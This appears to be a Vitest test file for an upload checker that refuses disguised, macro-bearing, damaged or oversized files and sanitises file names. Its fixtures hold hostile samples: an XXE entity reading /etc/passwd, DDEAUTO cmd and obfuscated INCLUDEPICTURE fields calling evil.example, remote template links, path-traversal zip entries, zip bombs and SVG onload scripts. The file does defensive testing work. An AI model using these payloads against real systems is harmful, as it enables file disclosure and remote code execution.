import { randomBytes } from 'node:crypto'
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { strToU8, zipSync } from 'fflate'
import { afterAll, describe, expect, test } from 'vitest'
import { checkFile } from './file-check.ts'
import { cleanFileName } from './file-names.ts'

const folder = mkdtempSync(join(tmpdir(), 'kith-check-'))
afterAll(() => rmSync(folder, { recursive: true, force: true }))

function check(name: string, content: string | Buffer) {
  const path = join(folder, randomBytes(8).toString('hex'))
  writeFileSync(path, content)
  return checkFile(path, name)
}

const wordMain = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml'
const contentTypes = (main: string) =>
  `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="${main}"/></Types>`

function word(more: Record<string, string | Uint8Array> = {}, main = wordMain): Buffer {
  const parts = { '[Content_Types].xml': contentTypes(main), 'word/document.xml': '<w:document/>', ...more }
  const bytes = Object.entries(parts).map(([name, text]) => [name, typeof text === 'string' ? strToU8(text) : text])
  return Buffer.from(zipSync(Object.fromEntries(bytes)))
}
const related = (type: string, target: string) =>
  word({
    'word/_rels/document.xml.rels': `<Relationships><Relationship Id="r" Type="http://x/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
  })
const pdf = Buffer.from('%PDF-1.7\n%%EOF\n')
const tornPng = Buffer.concat([
  Buffer.from('89504e470d0a1a0a0000000d494844520000000a0000000a08060000008d32cfbd', 'hex'),
  Buffer.alloc(40, 1),
])

const field = (told: string) =>
  `<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>${told}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`

describe('what is refused', () => {
  test.each([
    ['an SVG', 'drawing.svg', '<svg xmlns="http://www.w3.org/2000/svg"/>', 'FileKindRefused'],
    ['a page', 'page.html', '<html></html>', 'FileKindRefused'],
    ['XML', 'data.xml', '<?xml version="1.0"?><a/>', 'FileKindRefused'],
    ['a script', 'run.js', 'alert(1)', 'FileKindRefused'],
    ['a program', 'setup.exe', 'MZ\u0090', 'FileKindRefused'],
    ['macros by name', 'report.docm', word(), 'FileKindRefused'],
    ['a name without ending', 'noending', pdf, 'FileKindRefused'],
    ['a name from the prototype', 'x.constructo', pdf, 'FileKindRefused'],
    [
      'an SVG called PNG',
      'photo.png',
      '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
      'FileKindMismatch',
    ],
    ['a PDF called JPEG', 'photo.jpg', pdf, 'FileKindMismatch'],
    ['a program called PDF', 'report.pdf', 'MZ\u0090\u0000\u0003', 'FileKindMismatch'],
    ['a page called text', 'notes.txt', '<!doctype html><script>alert(1)</script>', 'FileKindMismatch'],
    ['an SVG called text behind a BOM', 'notes.txt', '\uFEFF  <svg onload=alert(1)>', 'FileKindMismatch'],
    ['a program called CSV', 'list.csv', Buffer.from([0x4d, 0x5a, 0x90, 0, 3]), 'FileKindMismatch'],
    ['a PDF called CSV', 'list.csv', pdf, 'FileKindMismatch'],
    ['text called Word', 'letter.docx', 'PK but no zip', 'FileKindMismatch'],
    ['Word called Excel', 'sheet.xlsx', word(), 'FileKindMismatch'],
    [
      'macros by content type',
      'a.docx',
      word({}, 'application/vnd.ms-word.document.macroEnabled.main+xml'),
      'FileUnsafe',
    ],
    ['macros by part', 'a.docx', word({ 'word/vbaProject.bin': 'x' }), 'FileUnsafe'],
    ['an embedded object', 'a.docx', word({ 'word/embeddings/oleObject1.bin': 'x' }), 'FileUnsafe'],
    [
      'a document type',
      'a.docx',
      word({ 'word/x.xml': '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>' }),
      'FileUnsafe',
    ],
    [
      'a document type in UTF-16',
      'a.docx',
      word({ 'word/x.xml': Buffer.from('\uFEFF<!DOCTYPE a>', 'utf16le') }),
      'FileUnsafe',
    ],
    [
      'a field that starts programs',
      'a.docx',
      word({ 'word/x.xml': '<w:instrText>DDEAUTO cmd</w:instrText>' }),
      'FileUnsafe',
    ],
    ...[
      field('INCLUDEPICTURE "http://evil.example/i.png" \\d'),
      field('  includetext "\\\\server\\share\\a.docx"'),
      field('LINK Excel.Sheet.12 "c:\\a.xlsx"'),
      field('DATABASE \\d "c:\\a.mdb"'),
      field('RD "c:\\a.docx"'),
      field('DDE excel "a"'),
      field('QUOTE 73 78 67 76 85 68 69'),
      '<w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://evil.example/i.png&quot; "/>',
      '<w:instrText>INCLUDE</w:instrText></w:r><w:r><w:instrText>PICTURE "http://evil.example"</w:instrText>',
      '<w:instrText>&#73;NCLUDEPICTURE "http://evil.example"</w:instrText>',
      '<w:instrText><![CDATA[INCLUDEPICTURE "http://evil.example"]]></w:instrText>',
      '<w:instrText><!-- x -->INCLUDEPICTURE "http://evil.example"</w:instrText>',
      '<w:altChunk r:id="x"/>',
    ].map((part): [string, string, Buffer, string] => [
      `outside content: ${part.slice(0, 60)}`,
      'a.docx',
      word({ 'word/document2.xml': part }),
      'FileUnsafe',
    ]),
    ['a template elsewhere', 'a.docx', related('attachedTemplate', 'http://evil.example/t.dotm'), 'FileUnsafe'],
    ['a picture elsewhere', 'a.docx', related('image', 'http://evil.example/i.png'), 'FileUnsafe'],
    ['a link to a share', 'a.docx', related('hyperlink', 'file://server/share'), 'FileUnsafe'],
    ['an entry that climbs out', 'a.docx', word({ '../evil.xml': 'x' }), 'FileDamaged'],
    ['a zip cut short', 'a.docx', word().subarray(0, -30), 'FileDamaged'],
    ['60 MB unpacked', 'a.docx', word({ 'word/a.txt': Buffer.alloc(60 * 1024 * 1024) }), 'FileUnpacksTooLarge'],
    ['packed a thousandfold', 'a.docx', word({ 'word/a.txt': Buffer.alloc(20 * 1024 * 1024) }), 'FileUnpacksTooLarge'],
    [
      '2003 entries',
      'a.docx',
      word(Object.fromEntries(Array.from({ length: 2001 }, (_, n) => [`word/${n}.xml`, '']))),
      'FileUnpacksTooLarge',
    ],
    ['a torn picture', 'broken.png', tornPng, 'FileDamaged'],
    ['nothing', 'a.pdf', '', 'FileEmpty'],
  ] as [string, string, string | Buffer, string][])('%s', async (_what, name, content, code) => {
    await expect(check(name, content)).rejects.toMatchObject({
      status: 422,
      said: { code },
    })
  })

  test('a zip whose directory lies about its sizes', async () => {
    const honest = word({ 'word/media/a.txt': randomBytes(50_000).toString('hex') })
    const lying = Buffer.from(honest)
    lying.writeUInt32LE(10, honest.lastIndexOf('word/media/a.txt') - 46 + 24)
    lying.writeUInt32LE(10, honest.indexOf('word/media/a.txt') - 30 + 22)
    await expect(check('a.docx', lying)).rejects.toMatchObject({ said: { code: 'FileDamaged' } })
    expect((await check('a.docx', honest)).kind).toBe('docx')
  })
})

test('fields that fetch nothing are taken', async () => {
  const parts = [
    'PAGE',
    'HYPERLINK "https://kith.example"',
    'MERGEFIELD Link',
    'IF 1 = 1 "LINK" "x"',
    'DATE',
    'QUOTE "a"',
  ]
  const file = word({ 'word/document2.xml': parts.map(field).join('') })
  expect(await check('a.docx', file)).toMatchObject({ kind: 'docx' })
})

test('an ordinary Word file with a link to click, a text and a table are taken', async () => {
  expect((await check('letter.docx', related('hyperlink', 'https://county.example/'))).kind).toBe('docx')
  expect((await check('notes.txt', 'Visited at 3 < 5 o’clock.\r\n')).contentType).toBe('text/plain; charset=utf-8')
  const latin = Buffer.from('name;city\r\nJos\xe9;x\r\n', 'latin1')
  expect((await check('list.csv', latin)).contentType).toBe('text/csv; charset=windows-1252')
  expect(await check('report.PDF', pdf)).toMatchObject({ kind: 'pdf', contentType: 'application/pdf' })
})

test('names keep their ending and lose what could do harm', () => {
  expect(cleanFileName('a"b<c>|d?.pdf')).toBe('a_b_c__d_.pdf')
  expect(cleanFileName('line\r\nbreak.pdf')).toBe('linebreak.pdf')
  expect(cleanFileName('lpt1.tar.PDF')).toBe('_lpt1.tar.pdf')
  expect(cleanFileName('\uD800.pdf')).toBe('�.pdf')
  expect(cleanFileName('')).toBe('file')
})
